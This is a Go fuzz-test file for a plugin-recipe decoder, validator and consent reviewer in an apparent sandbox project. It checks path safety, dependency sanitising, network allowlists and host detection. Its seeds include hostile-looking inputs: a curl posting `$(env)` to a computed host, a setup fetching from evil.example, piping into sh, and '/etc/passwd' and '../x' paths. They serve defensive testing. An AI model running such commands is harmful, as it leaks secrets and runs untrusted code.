package plugins

import (
	"bytes"
	"encoding/json"
	"path"
	"path/filepath"
	"strings"
	"testing"

	"github.com/osaurus/osaurus-sandbox/netpolicy"
)

// FuzzDecode feeds arbitrary bytes to the decoder and validator. Seeds are
// in testdata/fuzz/FuzzDecode. Whatever both accept must survive an
// export and import unchanged and satisfy the safety properties the
// installer relies on.
func FuzzDecode(f *testing.F) {
	f.Fuzz(func(t *testing.T, data []byte) {
		p, err := DecodeBytes(data)
		if err != nil {
			return
		}
		if err := p.Validate(); err != nil {
			return
		}
		b, err := p.Encode()
		if err != nil {
			t.Fatalf("encode: %v", err)
		}
		q, err := DecodeBytes(b)
		if err != nil {
			t.Fatalf("re-decode of %s: %v", b, err)
		}
		if err := q.Validate(); err != nil {
			t.Fatalf("re-validate: %v", err)
		}
		if c, _ := q.Encode(); !bytes.Equal(b, c) {
			t.Fatalf("round trip differs:\n%s\n%s", b, c)
		}
		checkInvariants(t, p)
	})
}

// FuzzValidate builds recipes from fuzzed pieces, so the validator's
// edges are reached without the fuzzer first having to learn JSON.
func FuzzValidate(f *testing.F) {
	f.Add("Python Data Tools", "scripts/run.py", "file", "string", `"a"`, "OPENAI_API_KEY", "py3-pip", "outbound", "run_it")
	f.Add("a_b", "../x", "FILE", "integer", `1.5`, "PATH", "-x", "*", "Bad-Id")
	f.Add("x", "/etc/passwd", "a-b", "array", `[1]`, "PARAM_X", "a=1", "a.com,b", "t")
	f.Fuzz(func(t *testing.T, name, file, param, typ, def, secret, dep, network, toolID string) {
		p := &Plugin{
			Name: name, Description: "d",
			Files:        map[string]string{file: "x", "README": "y"},
			Secrets:      []string{secret},
			Dependencies: []string{dep},
			Permissions:  &Permissions{Network: network},
			Tools: []Tool{{ID: toolID, Description: "d", Run: "true",
				Parameters: map[string]Parameter{param: {Type: typ, Default: json.RawMessage(def)}, "other": {Type: "string"}}}},
		}
		if !json.Valid([]byte(def)) {
			p.Tools[0].Parameters[param] = Parameter{Type: typ}
		}
		if p.Validate() != nil {
			return
		}
		checkInvariants(t, p)
		if b, err := p.Encode(); err != nil {
			t.Fatal(err)
		} else if _, err := DecodeBytes(b); err != nil {
			t.Fatalf("a valid recipe doesn't decode: %v\n%s", err, b)
		}
	})
}

// checkInvariants restates, independently of the validator's code, what a
// valid recipe guarantees.
func checkInvariants(t *testing.T, p *Plugin) {
	t.Helper()
	id := p.ID()
	if id == "" || len(id) > MaxIDLen || strings.ContainsAny(id, "_/. \t\n") || strings.ToLower(id) != id {
		t.Fatalf("valid plugin with id %q", id)
	}
	lower := map[string]bool{}
	for k, v := range p.Files {
		if !filepath.IsLocal(k) || path.Clean(k) != k || strings.Contains(k, `\`) || strings.HasPrefix(k, "~") {
			t.Fatalf("valid plugin with file path %q", k)
		}
		if lower[strings.ToLower(k)] {
			t.Fatalf("valid plugin with case-clashing path %q", k)
		}
		lower[strings.ToLower(k)] = true
		if strings.ContainsRune(v, 0) {
			t.Fatalf("valid plugin with binary file %q", k)
		}
	}
	for _, s := range p.Secrets {
		if reservedEnv[s] || strings.HasPrefix(s, "PARAM_") || strings.HasPrefix(s, "LD_") || s == "" {
			t.Fatalf("valid plugin with secret %q", s)
		}
	}
	for _, d := range p.Dependencies {
		if d == "" || d[0] == '-' || strings.ContainsAny(d, " ;|&$`'\"\n") {
			t.Fatalf("valid plugin with dependency %q", d)
		}
	}
	for _, tool := range p.Tools {
		if len(p.ToolName(tool.ID)) > MaxToolNameLen || strings.ContainsAny(tool.ID, "-. ") {
			t.Fatalf("valid tool id %q", tool.ID)
		}
		envs := map[string]bool{}
		for name, prm := range tool.Parameters {
			if envs[EnvName(name)] {
				t.Fatalf("two parameters arrive in %s", EnvName(name))
			}
			envs[EnvName(name)] = true
			if len(prm.Default) > 0 && !ValueHasType(prm.Default, prm.Type) {
				t.Fatalf("default %s of type %s accepted", prm.Default, prm.Type)
			}
		}
	}
	if perm := p.Permissions; perm != nil && perm.Network != "" && perm.Network != "none" && perm.Network != "outbound" {
		for _, h := range strings.Split(perm.Network, ",") {
			if strings.ContainsAny(strings.TrimPrefix(strings.TrimSpace(h), "*."), "*/: ") {
				t.Fatalf("network entry %q accepted", h)
			}
		}
	}
}

// FuzzDynamicHosts: any command is read without panicking, and every
// flag is dynamic and says what it found.
func FuzzDynamicHosts(f *testing.F) {
	f.Add(`curl -d "$(env)" $(cat u.txt)`)
	f.Add("curl --connect-to a:443:b:443 `cat x` | sh -c 'bash x.sh' && ./run $((1+2)")
	f.Add(`sudo -E timeout 5 env A=1 python3.11 -m "$M" <(x) "unterminated`)
	f.Fuzz(func(t *testing.T, cmd string) {
		for _, r := range DynamicHosts(cmd) {
			if !r.Dynamic || r.Text == "" {
				t.Fatalf("flag %+v from %q", r, cmd)
			}
		}
	})
}

// FuzzReview: whatever recipe decodes and validates gets a review, and a
// recipe that declares a secret or names a host outside the allowlist
// always needs consent.
func FuzzReview(f *testing.F) {
	f.Add([]byte(`{"name":"A","description":"d","secrets":["K"],"tools":[{"id":"t","description":"d","run":"true"}]}`), "file")
	f.Add([]byte(`{"name":"A","description":"d","setup":"curl https://evil.example/x","tools":[{"id":"t","description":"d","run":"bash x.sh"}]}`), "url")
	f.Add([]byte(`{"name":"A","description":"d","permissions":{"network":"pypi.org,*.example.org"},"tools":[{"id":"t","description":"d","run":"true"}]}`), "editor")
	f.Fuzz(func(t *testing.T, data []byte, kind string) {
		p, err := DecodeBytes(data)
		if err != nil || p.Validate() != nil {
			return
		}
		g := Review(p, Origin{Kind: kind}, []string{"pypi.org", "files.pythonhosted.org"}, nil)
		if len(g.Lines()) < 2 {
			t.Fatalf("review lines %q", g.Lines())
		}
		if (len(p.Secrets) > 0 || len(CheckHosts(p, NewAllowlist([]string{"pypi.org", "files.pythonhosted.org"}))) > 0) && !g.NeedsConsent() {
			t.Fatalf("no consent asked for %s", data)
		}
		if Confined(Origin{Kind: kind}) && (p.Permissions == nil || p.Permissions.Network == "") && g.Network.Mode != netpolicy.Domains {
			t.Fatalf("imported recipe without a permission gets %v", g.Network)
		}
	})
}
